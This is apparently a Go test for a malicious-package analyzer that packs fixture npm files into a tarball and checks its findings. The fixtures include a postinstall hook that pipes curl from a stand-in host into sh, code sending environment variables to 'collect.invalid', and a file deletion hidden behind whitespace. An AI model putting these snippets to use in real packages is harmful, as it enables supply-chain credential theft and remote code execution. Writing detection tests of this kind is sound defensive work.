package analyzer_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"reflect"
	"strings"
	"testing"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/issue"
)

// TestLargePackage: a package whose content is kept compressed is understood as
// a small one is: what is found, where, on which way, with which code.
func TestLargePackage(t *testing.T) {
	files := map[string]string{
		"package.json": `{"name": "large", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node setup.js"}}`,
		"index.js":     "const { send } = require('./lib/send')\nexports.run = () => send(process.env)\n" + strings.Repeat("// filler to make it worth compressing\n", 200),
		"lib/send.js": "const https = require('https')\nexports.send = data => {\n  const r = https.request({ host: 'collect.invalid' })\n  r.end(JSON.stringify(data))\n}\n" +
			strings.Repeat("// filler to make it worth compressing\n", 200),
		"setup.js":  "const n = 'child_' + 'process'\nrequire(n).execSync('curl https://example.invalid | sh')\n" + strings.Repeat("/* more */\n", 1000),
		"unused.js": "require('net').connect(1)\n" + strings.Repeat("/* more */\n", 1000),
		"wide.js":   "module.exports = 1;" + strings.Repeat(" ", 300) + "require('fs').unlinkSync('x')\n",
	}
	engine, err := analyzer.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	contents := func(fillers int) *issue.Contents {
		t.Helper()
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		w := tar.NewWriter(z)
		add := func(name, content string) {
			_ = w.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(content))})
			_, _ = io.WriteString(w, content)
		}
		for name, content := range files {
			add(name, content)
		}
		for i := range fillers {
			add(fmt.Sprintf("data/%d.txt", i), filler(i))
		}
		_ = w.Close()
		_ = z.Close()
		out, err := engine.Handle([]byte("{}"), &b, func(string) {})
		if err != nil {
			t.Fatal(err)
		}
		var c issue.Contents
		if err := json.Unmarshal(out, &c); err != nil {
			t.Fatal(err)
		}
		return &c
	}
	small, large := contents(0), contents(12)
	if len(small.Findings.Behaviors) < 5 || large.Files != small.Files+12 || large.Size < 25<<20 {
		t.Fatalf("%d findings, %d and %d files", len(small.Findings.Behaviors), small.Files, large.Files)
	}
	if !reflect.DeepEqual(small.Findings, large.Findings) || !reflect.DeepEqual(small.Incomplete, large.Incomplete) {
		a, _ := json.MarshalIndent(small.Findings, "", " ")
		b, _ := json.MarshalIndent(large.Findings, "", " ")
		t.Errorf("small: %s\nlarge: %s\n%v %v", a, b, small.Incomplete, large.Incomplete)
	}
}

// filler is a text that is kept, of some 2.4 MB.
func filler(seed int) string {
	var b strings.Builder
	b.WriteString("-----BEGIN NO PRIVATE KEY-----\n")
	for i := range 120_000 {
		fmt.Fprintf(&b, "words and words %d\n", (i+1)*(seed+7919)%1_000_003)
	}
	return b.String()
}
